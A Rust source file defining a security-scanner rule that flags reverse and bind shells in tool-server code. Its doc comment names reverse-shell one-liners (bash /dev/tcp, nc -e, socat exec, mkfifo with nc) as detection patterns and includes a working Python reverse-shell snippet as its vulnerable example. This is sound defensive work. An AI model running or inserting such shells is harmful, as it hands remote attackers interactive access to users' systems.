use super::report_technique;
use crate::{declare_rule, Findings, Project, Rule, RuleMeta};
use skillaudit_core::Severity;
use skillaudit_lang::behaviour::Technique;

declare_rule! {
    /// ## What it finds
    /// A shell wired to a network connection: a socket duplicated onto the process's standard
    /// streams (`os.dup2(s.fileno(), 0)`), a shell started with a socket as its input or output,
    /// a child process's streams piped to a socket, and command lines that do the same
    /// (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `socat … exec:`, `mkfifo … | nc`).
    ///
    /// ## Why it matters
    /// Whoever is at the other end of the connection gets an interactive shell with the user's
    /// rights. There is no legitimate reason for a tool server to hand its shell to a socket.
    ///
    /// ## Vulnerable example
    /// ```python
    /// s = socket.socket(); s.connect((HOST, PORT))
    /// for fd in (0, 1, 2):
    ///     os.dup2(s.fileno(), fd)
    /// subprocess.call(["/bin/sh", "-i"])
    /// ```
    ///
    /// ## Fixed example
    /// ```python
    /// out = subprocess.run(["uptime"], capture_output=True, text=True).stdout
    /// ```
    ///
    /// ## References
    /// - https://attack.mitre.org/techniques/T1059/004/
    /// - https://cwe.mitre.org/data/definitions/506.html
    pub struct ReverseShell {
        code: "MAL-003",
        name: "reverse-or-bind-shell",
        axis: Security,
        severity: High,
        cwe: Some("CWE-506"),
    }
}

const FIX: &str = "remove the code: a tool server never connects a shell to the network";

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, project: &Project, out: &mut Findings) {
        report_technique(project, out, Technique::ReverseShell, Severity::High, FIX);
    }
}
